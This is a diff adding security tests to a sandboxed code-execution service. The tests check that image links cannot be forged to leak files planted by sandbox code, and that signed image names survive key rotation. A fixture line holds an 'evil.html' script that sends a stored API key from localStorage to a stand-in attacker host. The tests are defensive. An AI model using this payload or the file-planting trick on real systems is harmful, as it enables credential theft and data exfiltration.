@@ -5,9 +5,16 @@ framed nor allowed to run anything."""
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import httpx
+from openai import OpenAI
+
+from thinkbox.service.api.openai_render import image_is_ours, image_name
+from thinkbox.service.secrets.keys import Keyring
 
 from .conftest import Running
+from .service_support import program, read_sse
 
 HOSTILE = {
     "evil.html": b"<html><script>fetch('https://evil.example/?k='+localStorage['thinkbox.key'])</script>",
@@ -83,3 +90,55 @@ def test_the_page_keeps_its_own_policy_and_the_docs_cannot_be_framed(running: Ru
         docs = httpx.get(running.url + path)
         assert docs.status_code == 200 and docs.headers.get("x-content-type-options") == "nosniff"
         assert docs.headers["content-security-policy"] == "frame-ancestors 'none'"
+
+
+def test_an_image_link_serves_only_bytes_the_service_saved_there(running: Running) -> None:
+    """``/v1/images`` needs no key: its links are capabilities. Sandbox code can write in the user's folder,
+    ``.thinkbox/images/`` included; what it writes there (under a name of its choosing, or over a figure
+    the service saved) must not become readable by anyone who knows a run's id: an exit for the user's
+    data that no egress rule would see."""
+    ai = OpenAI(base_url=running.url + "/v1", api_key=running.alice.key, max_retries=0, timeout=60)
+    plot = "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()"
+    question = [{"role": "user", "content": program([plot], "ok")}]
+    reply = ai.chat.completions.create(model="thinkbox", messages=question)  # type: ignore[arg-type]
+    url = (reply.choices[0].message.content or "").split("](", 1)[1].rstrip(")")
+    figure = httpx.get(url, timeout=30)
+    assert figure.status_code == 200 and figure.content.startswith(b"\x89PNG")
+    run_id, name = url.rsplit("/", 2)[1:]
+    planted = f"2-{'ab' * 16}.png"
+    steal = (
+        f"import os\nfolder = '.thinkbox/images/{run_id}'\n"
+        f"open(os.path.join(folder, '{planted}'), 'wb').write(b'the user data, planted')\n"
+        f"open(os.path.join(folder, '{name}'), 'wb').write(b'the user data, over the figure')\n"
+        "print(sorted(os.listdir(folder)))"
+    )
+    with running.client(running.alice) as alice:
+        run = alice.post("/v1/runs", json={"question": program([steal], "done")}).json()
+        with alice.stream("GET", f"/v1/runs/{run['id']}/events") as response:
+            events = read_sse(response)
+        printed = "".join(e["data"]["text"] for e in events if e["event"] == "output_chunk")
+        assert planted in printed and name in printed  # the code did write both files
+        assert alice.get(f"/v1/files/.thinkbox/images/{run_id}/{planted}").content.startswith(b"the user")
+    for forged in (url.rsplit("/", 1)[0] + "/" + planted, url):
+        answer = httpx.get(forged, timeout=30)
+        assert answer.status_code == 404, (forged, answer.content)
+        assert b"user data" not in answer.content
+
+
+def test_an_image_link_outlives_a_key_rotation_and_binds_run_name_and_bytes(tmp_path: Path) -> None:
+    keys = Keyring(tmp_path)
+    name = image_name(keys, "r_01", 1, "png", b"figure")
+    assert image_is_ours(keys, "r_01", name, b"figure")
+    keys.add_key()  # thinkbox admin secrets rotate-key: the old key stays, after the new one
+    assert (
+        image_is_ours(keys, "r_01", name, b"figure") and image_name(keys, "r_01", 1, "png", b"figure") != name
+    )
+    for run, other, data in (
+        ("r_02", name, b"figure"),
+        ("r_01", "2" + name[1:], b"figure"),
+        ("r_01", name, b"x"),
+    ):
+        assert not image_is_ours(keys, run, other, data), (run, other, data)
+    assert not image_is_ours(
+        Keyring(tmp_path / "elsewhere"), "r_01", name, b"figure"
+    )  # another server's keys
